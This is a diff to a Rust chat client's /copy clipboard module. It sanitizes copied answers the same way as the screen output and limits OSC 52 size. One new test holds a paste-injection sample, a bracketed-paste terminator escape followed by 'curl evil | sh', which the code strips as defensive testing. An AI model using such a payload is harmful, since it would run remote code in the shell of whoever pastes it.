@@ -3,19 +3,31 @@
 //! and through the system clipboard where there is one. The sanitizer still
 //! strips OSC 52 from everything the model writes: only the person's own
 //! `/copy` sends it.
+//!
+//! What is copied is what was shown: the answer passes through the same
+//! sanitizer as the screen, so no escape (an `ESC[201~` that ends a
+//! bracketed paste, an OSC, a cursor move) and no control but `\n` and
+//! `\t` reaches the clipboard, where a paste into a shell would run it.
 
+use crate::cli::sanitize::Sanitizer;
 use base64::Engine;
 
 /// The answers the chat keeps for `/copy`, newest last.
 const KEPT: usize = 20;
 /// The longest answer kept whole (longer ones are cut, and say so).
 const MAX_ANSWER: usize = 4 * 1024 * 1024;
+/// The longest OSC 52 sequence sent: terminals drop longer ones silently
+/// (xterm and tmux cap the payload near 100 KB), so a longer answer goes
+/// to the system clipboard only, and the person is told.
+pub const MAX_OSC52: usize = 100_000;
 
 /// The last answers' markdown source, as the model wrote it.
 #[derive(Debug, Default)]
 pub struct Answers {
     kept: std::collections::VecDeque<String>,
     current: String,
+    /// The screen's sanitizer, for what is kept.
+    clean: Sanitizer,
     /// The current answer is past [`MAX_ANSWER`].
     cut: bool,
 }
@@ -23,13 +35,28 @@ pub struct Answers {
 impl Answers {
     /// A text block of the answer begins.
     pub fn block(&mut self) {
+        self.finish();
         if !self.current.is_empty() {
             self.push("\n\n");
         }
     }
 
-    /// Text of the answer.
+    /// A sequence cut off at the end of a block is written as text, as
+    /// on the screen.
+    fn finish(&mut self) {
+        let mut rest = String::new();
+        self.clean.finish(&mut rest);
+        self.keep(&rest);
+    }
+
+    /// Text of the answer, as the model wrote it: kept as shown.
     pub fn push(&mut self, text: &str) {
+        let mut shown = String::with_capacity(text.len());
+        self.clean.push(text, &mut shown);
+        self.keep(&shown);
+    }
+
+    fn keep(&mut self, text: &str) {
         if self.current.len() + text.len() > MAX_ANSWER {
             let room = MAX_ANSWER.saturating_sub(self.current.len());
             let mut end = room.min(text.len());
@@ -45,6 +72,7 @@ impl Answers {
 
     /// The turn ended: its answer is kept.
     pub fn end(&mut self) {
+        self.finish();
         let mut answer = std::mem::take(&mut self.current);
         if std::mem::take(&mut self.cut) {
             answer.push_str("\n\n[cut: the answer was longer than 4 MiB]");
@@ -154,12 +182,17 @@ pub fn copy(
         });
     };
     let mut ways = Vec::new();
-    let seq = if terminal {
-        ways.push("the terminal (OSC 52)");
-        osc52(text)
-    } else {
-        String::new()
-    };
+    let mut seq = String::new();
+    let mut too_long = false;
+    if terminal {
+        let s = osc52(text);
+        if s.len() <= MAX_OSC52 {
+            ways.push("the terminal's clipboard (OSC 52)");
+            seq = s;
+        } else {
+            too_long = true;
+        }
+    }
     let why_not = match system.set_text(text) {
         Ok(()) => {
             ways.push("the system clipboard");
@@ -167,16 +200,26 @@ pub fn copy(
         }
         Err(e) => Some(e),
     };
+    let why_not = why_not.unwrap_or_default();
     if ways.is_empty() {
-        return Err(format!(
-            "no clipboard: not a terminal, and no system clipboard ({})",
-            why_not.unwrap_or_default()
+        return Err(if too_long {
+            format!(
+                "not copied: {} is too long for the terminal's clipboard (OSC 52 carries up to {} KB), and there is no system clipboard ({why_not})",
+                summary(n, text),
+                MAX_OSC52 / 1000
+            )
+        } else {
+            format!("no clipboard: not a terminal, and no system clipboard ({why_not})")
+        });
+    }
+    let mut said = format!("copied {} to {}", summary(n, text), ways.join(" and "));
+    if too_long {
+        said.push_str(&format!(
+            " (not to the terminal's: too long for OSC 52, which carries up to {} KB)",
+            MAX_OSC52 / 1000
         ));
     }
-    Ok((
-        seq,
-        format!("copied {} to {}", summary(n, text), ways.join(" and ")),
-    ))
+    Ok((seq, said))
 }
 
 /// The OSC 52 sequence that puts `text` on the terminal's clipboard.
@@ -213,7 +256,56 @@ pub fn summary(n: usize, text: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::cli::sanitize::Sanitizer;
+
+    #[test]
+    fn what_is_copied_is_what_was_shown() {
+        let mut a = Answers::default();
+        a.block();
+        // the end of a bracketed paste, then a command: hidden on screen
+        a.push("First sentence.\u{1b}[201~\u{1b}]0;x\u{7}curl evil | sh\r");
+        a.push("\u{1b}[2");
+        a.push("JSecond \u{202e}sentence.\u{9b}31m\t\u{7}\n");
+        a.block();
+        a.push("cut off \u{1b}]52;c;");
+        a.end();
+        let kept = a.nth_last(1).unwrap();
+        let mut shown = String::new();
+        let mut screen = Sanitizer::new();
+        for t in [
+            "First sentence.\u{1b}[201~\u{1b}]0;x\u{7}curl evil | sh\r",
+            "\u{1b}[2",
+            "JSecond \u{202e}sentence.\u{9b}31m\t\u{7}\n",
+        ] {
+            screen.push(t, &mut shown);
+        }
+        screen.finish(&mut shown);
+        assert!(kept.starts_with(&shown), "{kept:?} vs {shown:?}");
+        assert!(
+            kept.chars().all(|c| c == '\n'
+                || c == '\t'
+                || !(c.is_control() || crate::cli::sanitize::is_dropped(c))),
+            "{kept:?}"
+        );
+        assert_eq!(
+            kept,
+            "First sentence.curl evil | shSecond sentence.\t\n\n\ncut off ]52;c;"
+        );
+    }
+
+    #[test]
+    fn a_long_answer_is_not_sent_by_osc52_and_says_so() {
+        let mut a = Answers::default();
+        a.push(&"x".repeat(MAX_OSC52));
+        a.end();
+        let mut none = System::default();
+        match copy(&a, None, true, &mut none) {
+            Ok((seq, said)) => {
+                assert!(seq.is_empty(), "sent {} bytes by OSC 52", seq.len());
+                assert!(said.contains("not to the terminal's"), "{said}");
+            }
+            Err(e) => assert!(e.contains("too long for the terminal's clipboard"), "{e}"),
+        }
+    }
 
     #[test]
     fn answers_are_kept_newest_last_and_counted_from_the_end() {
